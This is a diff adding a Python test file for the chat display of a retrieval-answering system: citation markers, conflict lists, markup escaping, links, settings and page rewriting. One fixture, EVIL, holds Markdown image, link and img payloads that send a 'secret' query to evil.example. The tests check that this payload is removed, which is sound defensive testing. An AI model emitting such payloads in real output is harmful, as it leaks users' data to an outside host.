@@ -1,0 +1,258 @@
+"""What the chat shows: answers and passages as Markdown in which documents' own markup does nothing. No Chainlit."""
+
+import dataclasses
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from qianxun.chat.folder import at_home, offline
+from qianxun.chat.history import judged
+from qianxun.chat.ids import Place, place_of
+from qianxun.chat.shown import Streaming, answer_text, as_text, passage_text, view_address
+from qianxun.chat.talk import AS_SET, NOBODY, how, source_address
+from qianxun.errors import NotFound
+from qianxun.marking import known_by
+from qianxun.messages import speaking
+from qianxun.records import Answer, Citation, Conflict, Passage, Span, Stated, Statement
+
+
+def passage(text: str = "一类城市住宿限额为每晚 650 元，凭票报销。", *, start: int = 100) -> Passage:
+    return Passage(
+        rank=1,
+        score=0.5,
+        chunk=83886082,
+        document=5,
+        source="制度/费用报销.md",
+        title="费用报销制度",
+        page=3,
+        location=None,
+        heading=("费用报销制度", "2. 住宿"),
+        span=Span(start, start + len(text)),
+        text=text,
+        context="",
+        labels=("public",),
+        stages={},
+    )
+
+
+def citation(number: int, quote: str = "每晚 650 元", *, chunk: int = 83886082) -> Citation:
+    return Citation(
+        number=number,
+        chunk=chunk,
+        document=5,
+        source="制度/费用报销.md",
+        title="费用报销制度",
+        page=3,
+        location=None,
+        heading=(),
+        span=Span(109, 117),
+        quote=quote,
+        support="supported",
+        sentence="",
+        statement=0,
+    )
+
+
+def answer(text: str, statements: tuple[Statement, ...] = (), **more: object) -> Answer:
+    given = Answer(
+        question="住宿限额？",
+        text=text,
+        verdict="answered",
+        citations=(citation(1),),
+        passages=(passage(),),
+        seconds={"total": 0.1},
+        models={},
+        degraded=(),
+        notes=(),
+        statements=statements,
+    )
+    return dataclasses.replace(given, **more)  # type: ignore[arg-type]
+
+
+def statement(text: str, whole: str, support: str, **more: object) -> Statement:
+    start = whole.index(text)
+    made = Statement(text, Span(start, start + len(text)), (1,), support, None)  # type: ignore[arg-type]
+    return dataclasses.replace(made, **more)  # type: ignore[arg-type]
+
+
+def test_what_bears_a_sentence_little_is_said_behind_its_marks() -> None:
+    text = "每晚 650 元。[1][2]餐補每天 120 元。[3] Breakfast is free."
+    sentences = (
+        statement("每晚 650 元。", text, "supported"),
+        statement("餐補每天 120 元。", text, "weak"),
+        statement("Breakfast is free.", text, "absent"),
+    )
+    with speaking("zh"):
+        assert answer_text(answer(text, sentences)) == (
+            "每晚 650 元。[1][2]餐補每天 120 元。[3]〔依据较弱〕 Breakfast is free.〔无依据〕"
+        )
+    with speaking("en"):
+        assert "[3]〔weakly supported〕" in answer_text(answer(text, sentences))
+
+
+def test_what_only_leads_in_and_what_a_persona_says_of_itself_needs_no_support() -> None:
+    text = "如下：我是小千。"
+    sentences = (
+        statement("如下：", text, "absent", claim=False),
+        statement("我是小千。", text, "absent", own=True),
+    )
+    assert answer_text(answer(text, sentences)) == text
+
+
+@pytest.mark.parametrize("verdict", ["partial", "ungrounded", "clarify"])
+def test_an_answer_that_is_not_simply_borne_says_so(verdict: str) -> None:
+    shown = answer_text(answer("也许。", verdict=verdict))
+    assert shown.startswith("也许。\n\n> ")
+
+
+def test_sources_that_disagree_are_listed_with_their_numbers() -> None:
+    values = (
+        Stated("650 元", (citation(1), citation(2), citation(1)), "2025"),
+        Stated("*600* 元", (citation(3),), None),
+    )
+    shown = answer_text(answer("650 元。[1]", conflicts=(Conflict(values),)))
+    assert "- 650 元 (2025) [1][2]\n- \\*600\\* 元 [3]" in shown
+
+
+EVIL = "![x](https://evil.example/?q=secret) [点这里](https://evil.example/a) <img src=https://evil.example/b>"
+
+
+def test_an_answer_links_to_nothing_that_its_passages_have_not() -> None:
+    shown = answer_text(
+        answer(f"见 https://intra.example/a 。{EVIL}", passages=(passage("见 https://intra.example/a"),))
+    )
+    assert "https://intra.example/a" in shown
+    assert "https://evil" not in shown
+    assert "![" not in shown
+    assert "<img" not in shown
+
+
+@given(st.lists(st.sampled_from([*EVIL, "每晚", " 650 元。", "[1]", "\n"]), max_size=200), st.integers(1, 9))
+def test_a_stream_is_as_safe_as_its_whole_text_at_every_moment(pieces: list[str], size: int) -> None:
+    text = "".join(pieces)
+    streaming, page = Streaming(), ""
+    for at in range(0, len(text), size):
+        shown, anew = streaming.add(text[at : at + size])
+        page = shown if anew else page + shown
+        assert "![" not in page or "](" not in page
+        assert "https://evil" not in page
+
+
+def test_a_plain_stream_is_told_piece_by_piece() -> None:
+    streaming = Streaming()
+    assert [streaming.add(piece) for piece in ("每晚 ", "650 元。", "[1]")] == [
+        ("每晚 ", False),
+        ("650 元。", False),
+        ("[1]", False),
+    ]
+    streaming.clear()
+    assert streaming.add("重来") == ("重来", False)
+
+
+def test_a_passage_shows_its_quote_marked_and_where_it_stands() -> None:
+    with speaking("zh"):
+        shown = passage_text(passage(), 109, 117, "/view/default/5?from=109&to=117")
+    assert "**费用报销制度** · 第 3 页 · 费用报销制度 › 2\\. 住宿" in shown
+    assert "> 每晚 650 元" in shown
+    assert shown.endswith("[在文档中打开此处](/view/default/5?from=109&to=117)")
+
+
+def test_a_passage_without_its_quote_is_shown_whole() -> None:
+    shown = passage_text(passage(), 5000, 5010, "/view")
+    assert "650" in shown
+    assert "> " not in shown
+
+
+@given(st.text(st.sampled_from("ab中，。!*_`[]()<>#&|~$\\:-+.=^{}1 "), max_size=60))
+def test_text_of_documents_is_no_markup(text: str) -> None:
+    shown = as_text(text)
+    assert "".join(shown[1::2]) == shown[1::2]
+    bare = shown.replace("\\\\", "")
+    for sign in "*_`[]<>#|~$":
+        assert f"\\{sign}" in bare or sign not in bare
+
+
+def test_addresses_say_where() -> None:
+    assert view_address("http://x", "知识 库", 5, 1, 2) == (
+        "http://x/view/%E7%9F%A5%E8%AF%86%20%E5%BA%93/5?from=1&to=2#cited"
+    )
+    assert source_address("default", citation(1)) == (
+        f"/chat/source/default/83886082?from=109&to=117&words={known_by('每晚650元')}"
+    )
+    assert source_address("default", citation(1), "a.1a.b").endswith("&of=a.1a.b")
+
+
+def test_names_of_answers_say_where_they_are() -> None:
+    for place in (Place("知识.库-1", "0" * 32), Place("b", "f" * 32, 12, "a"), Place("b", "f" * 32, 3, "q")):
+        assert place_of(place.id) == place
+    for wrong in ("", "x", "0" * 32, f"{'0' * 32}.", "3f0c1a9e-0000-4000-8000-000000000000", f"{'0' * 32}.0a.b/../c"):
+        with pytest.raises(NotFound):
+            place_of(wrong)
+
+
+def test_a_thumb_is_about_what_is_cited_else_about_what_was_read() -> None:
+    assert judged(answer("a", citations=(citation(2, chunk=7), citation(0, chunk=8), citation(1, chunk=7)))) == [7]
+    assert judged(answer("a", citations=())) == [83886082]
+
+
+def test_settings_of_the_page_become_what_is_asked() -> None:
+    assert how({}) == {}
+    assert how({"persona": AS_SET, "filter": "  ", "deep": 0}) == {}
+    assert how({"persona": NOBODY, "filter": " label = hr ", "deep": 3}) == {
+        "persona": "",
+        "filter": "label = hr",
+        "deep": 3,
+    }
+    assert how({"persona": "客服"}) == {"persona": "客服"}
+
+
+@pytest.mark.parametrize(
+    ("settings", "options"),
+    [
+        ({"unsupported": AS_SET, "passages": 0, "context_tokens": 0, "instructions": " \u3000\n"}, None),
+        ({"unsupported": None, "passages": None, "context_tokens": "", "instructions": None}, None),
+        ({"unsupported": "refuse"}, {"unsupported": "refuse"}),
+        ({"passages": 3.0}, {"passages": 3}),
+        ({"context_tokens": "2000"}, {"context_tokens": 2000}),
+        ({"context_tokens": "2000.0"}, {"context_tokens": 2000}),
+        ({"context_tokens": -5}, {"context_tokens": -5}),  # the service says what it may be
+        ({"instructions": " 請分三點，Ｏｋ？\nBe brief.\n"}, {"instructions": "請分三點，Ｏｋ？\nBe brief."}),
+    ],
+)
+def test_what_the_page_says_of_the_answer_becomes_its_options(
+    settings: dict[str, Any], options: dict[str, Any] | None
+) -> None:
+    assert how(settings) == ({} if options is None else {"options": options})
+
+
+def test_the_page_is_left_without_anything_from_elsewhere() -> None:
+    page = """<head><link rel="preconnect" href="https://fonts.gstatic.com" crossorigin />
+    <link
+      href="https://fonts.googleapis.com/css2?family=Inter"
+      rel="stylesheet"
+    />
+    <!-- JS INJECTION PLACEHOLDER -->
+    <script>
+      const global = globalThis;
+    </script>
+    <script type="module" crossorigin src="/assets/index.js"></script>
+    <link rel="stylesheet" crossorigin href="/assets/index.css"></head>"""
+    shown = offline(page)
+    assert "https:" not in shown
+    assert "const global" not in shown
+    assert '<script src="/public/qianxun.js"></script>' in shown
+    assert "/assets/index.js" in shown
+    assert "/assets/index.css" in shown
+
+
+def test_the_script_finds_its_page_and_opens_what_is_cited_by_a_click_only() -> None:
+    script = (
+        'u.pathname=u.pathname==="/"?n:w;new URL(window.location.href);A.pathname==="/"&&t(i);'
+        'const D=r.filter(V=>V.display==="side");if(D.length===0){u(void 0);return}'
+    )
+    assert at_home(script) == (
+        'u.pathname=u.pathname==="/"?n:w;new URL(window.location.href);A.pathname.replace(/\\/$/,"")==="/chat"&&t(i);'
+        'const D=r.filter(V=>V.display==="side");if(!0||D.length===0){u(void 0);return}'
+    )
